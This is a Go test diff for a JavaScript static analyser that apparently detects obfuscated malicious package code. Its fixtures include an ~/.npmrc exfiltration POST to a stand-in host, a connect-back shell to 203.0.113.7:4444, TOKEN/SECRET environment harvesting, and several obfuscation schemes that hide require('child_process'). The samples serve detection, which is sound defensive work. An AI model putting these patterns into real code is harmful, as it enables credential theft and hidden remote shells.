@@ -920,6 +920,12 @@ require(p(1)).exec("id");`
 	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
 		t.Errorf("table row decoded: imports %+v calls %+v", f.Imports, f.Calls)
 	}
+	// the rows mapped by a decoder, one string each
+	f = Analyze("x.js", []byte(`const seg = `+rows("fetch(u)", "eval(x)")+`;
+module.exports = seg.map((s) => String.fromCharCode.apply(null, s.map((c) => c - 3))).join("\n");`), DefaultLimits())
+	if f.Export != "fetch(u)\neval(x)" {
+		t.Errorf("mapped rows: export %q", f.Export)
+	}
 	// a row written after the declaration no longer folds
 	f = Analyze("x.js", []byte(src+"\nPRECISION[1] = [0];"), DefaultLimits())
 	if hasImport(f, "child_process") {
@@ -941,6 +947,148 @@ fs.appendFileSync(rc, warm(url)); el.style.width = px(12);`), DefaultLimits())
 	}
 	if hasString(f, "12px") {
 		t.Errorf("a unit suffix inlined: %+v", f.Strings)
+	}
+}
+
+// A default after a constant (K || "x") is the constant; after a value
+// known only at run time it is not folded.
+func TestFoldOrDefault(t *testing.T) {
+	f := Analyze("x.js", []byte(`const K = "child_process", E = ""; require(K || "fs"); require(E || "net"); require(process.env.M || "dgram")`), DefaultLimits())
+	if !hasImport(f, "child_process") || !hasImport(f, "net") || hasImport(f, "fs") || hasImport(f, "dgram") {
+		t.Errorf("defaults: %+v", f.Imports)
+	}
+}
+
+// An array filled at run time (a JSON reviver pushing what it finds) is
+// not its empty literal: the code joined from it is not known to be "".
+func TestPushedArrayNotConstant(t *testing.T) {
+	f := Analyze("x.js", []byte(`const notes = []; JSON.parse(text, function (k, v) { if (k === "$comment") notes.push(v); return v });
+new (require("vm").Script)(Buffer.from(notes.join(""), "base64").toString()).runInThisContext()`), DefaultLimits())
+	c := hasCall(f, "vm.Script")
+	if c == nil || len(c.Args) == 0 || c.Args[0].Known {
+		t.Errorf("code from a filled array taken for a constant: %+v", c)
+	}
+}
+
+// A map callback that reads the element's index folds: each code is
+// shifted by its position.
+func TestMapWithIndex(t *testing.T) {
+	codes := func(word string, k int) string {
+		var out []string
+		for i, c := range word {
+			out = append(out, strconv.Itoa(int(c)+k+i%2))
+		}
+		return "[" + strings.Join(out, ", ") + "]"
+	}
+	f := Analyze("x.js", []byte(`function unpack(a, k) { return String.fromCharCode(...a.map((c, i) => c - k - (i % 2))) }
+module.constructor._load(unpack(`+codes("child_process", 3)+`, 3), module).spawn("sh")`), DefaultLimits())
+	if !hasImport(f, "child_process") || hasCall(f, "child_process.spawn") == nil {
+		t.Errorf("index-shifted codes: imports %+v calls %+v", f.Imports, f.Calls)
+	}
+}
+
+// What a decoder resolves to, taken by a then callback, is decoded text
+// there too.
+func TestDecodedThen(t *testing.T) {
+	f := Analyze("x.js", []byte(`async function verify() { const parts = []; for await (const r of rows()) parts.push(r.sig); return Buffer.from(parts.join(""), "base64").toString("utf8") }
+verify().then((check) => Reflect.construct(Function, ["require", check])(require));
+load().then((text) => Function("require", text)(require))`), DefaultLimits())
+	var decoded, plain int
+	for _, c := range f.Calls {
+		if c.Callee == "Function" && len(c.Args) == 2 {
+			if c.Args[1].Decodes != "" {
+				decoded++
+			} else {
+				plain++
+			}
+		}
+	}
+	if decoded != 1 || plain != 1 {
+		t.Errorf("decoded %d, plain %d: %+v", decoded, plain, f.Calls)
+	}
+}
+
+// Code another module exports, run by an eval worker, is analysed where
+// it runs.
+func TestWorkerCodeFromModule(t *testing.T) {
+	lim := DefaultLimits()
+	lim.Module = func(from, spec, prop string) (string, bool) {
+		if spec == "./probe" && prop == "" {
+			return `const f = require("fs"); fetch("https://c.example.invalid/p", { method: "POST", body: f.readFileSync(require("os").homedir() + "/.npmrc") })`, true
+		}
+		return "", false
+	}
+	f := Analyze("pool.js", []byte(`const { Worker } = require("worker_threads"); new Worker(require("./probe"), { eval: true });`), lim)
+	if hasCall(f, "fetch") == nil || hasCall(f, "fs.readFileSync") == nil {
+		t.Errorf("worker code from another module not analysed: %+v", f.Calls)
+	}
+}
+
+// A Proxy whose get trap requires a module named after the property read
+// makes each read that module; one that requires nothing is an object.
+func TestProxyLoader(t *testing.T) {
+	f := Analyze("x.js", []byte(`const sys = new Proxy({}, { get(cache, key) { if (!(key in cache)) cache[key] = require(String(key).replace(/[A-Z]/g, (m) => "_" + m.toLowerCase())); return cache[key] } });
+const cfg = new Proxy({}, { get(t, key) { return process.env[key] } });
+sys.net.connect(4444, "203.0.113.7"); sys.childProcess.spawn("/bin/sh"); cfg.net.connect(1)`), DefaultLimits())
+	if hasCall(f, "net.connect") == nil || hasCall(f, "child_process.spawn") == nil || hasCall(f, "cfg.net.connect") == nil {
+		t.Errorf("proxy loader: %+v", f.Calls)
+	}
+}
+
+// A loop over the environment's names that keeps those a pattern selects
+// reads those names only, as the filter form does.
+func TestEnvLoopFilter(t *testing.T) {
+	f := Analyze("x.js", []byte(`const env = {}; for (const k of Object.keys(process.env)) if (/TOKEN|SECRET/i.test(k)) env[k] = process.env[k];
+for (const k of Object.keys(process.env)) { console.log(k) }`), DefaultLimits())
+	var hows []string
+	for _, e := range f.Env {
+		if e.Name == "" {
+			hows = append(hows, e.How)
+		}
+	}
+	if !slices.Contains(hows, "filter:/TOKEN|SECRET/i") || !slices.Contains(hows, "arg:Object.keys") {
+		t.Errorf("env reads: %+v", f.Env)
+	}
+}
+
+// An array of object literals mapped to one of their properties folds to
+// those properties: the chunks a payload is kept in as layer names.
+func TestPluck(t *testing.T) {
+	f := Analyze("x.js", []byte(`const ANIM = { v: "5.7", layers: [{ ty: 4, nm: "child" }, { ty: 4, nm: "_process" }] };
+require(ANIM.layers.map((l) => l.nm).join("")).exec("id"); require(ANIM.layers.map((l) => l.ty).join(""))`), DefaultLimits())
+	if !hasImport(f, "child_process") || !hasImport(f, "44") {
+		t.Errorf("plucked names: %+v", f.Imports)
+	}
+}
+
+// Bytes mapped into a typed array (Uint8Array.from(codes, fn), the codes
+// divided back) decode through TextDecoder, also in a helper; require
+// kept behind a typeof check is require.
+func TestTypedArrayFrom(t *testing.T) {
+	enc := func(word string) string {
+		var out []string
+		for _, c := range word {
+			out = append(out, strconv.Itoa(int(c)*3+7))
+		}
+		return "[" + strings.Join(out, ",") + "]"
+	}
+	f := Analyze("x.js", []byte(`var s = function (e) { return new TextDecoder().decode(Uint8Array.from(e, function (e) { return (e - 7) / 3 })) };
+var r = "undefined" != typeof require ? require : null; r(s(`+enc("child_process")+`)).exec("id");
+require(new TextDecoder().decode(Uint8Array.from([1, 2], (v) => v + 0x100)))`), DefaultLimits())
+	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
+		t.Errorf("typed array decode: imports %+v calls %+v", f.Imports, f.Calls)
+	}
+}
+
+// The environment a caller may replace (opts.env || process.env) is the
+// environment, also in the functions it is handed to.
+func TestEnvDefault(t *testing.T) {
+	f := Analyze("x.js", []byte(`function files(env) { return env.AWS_SHARED_CREDENTIALS_FILE }
+exports.resolve = (opts = {}) => { const env = opts.env || process.env; return [env.AWS_PROFILE, files(env)] }`), DefaultLimits())
+	for _, name := range []string{"AWS_PROFILE", "AWS_SHARED_CREDENTIALS_FILE"} {
+		if !slices.ContainsFunc(f.Env, func(e EnvRead) bool { return e.Name == name }) {
+			t.Errorf("%s not read: %+v", name, f.Env)
+		}
 	}
 }
 
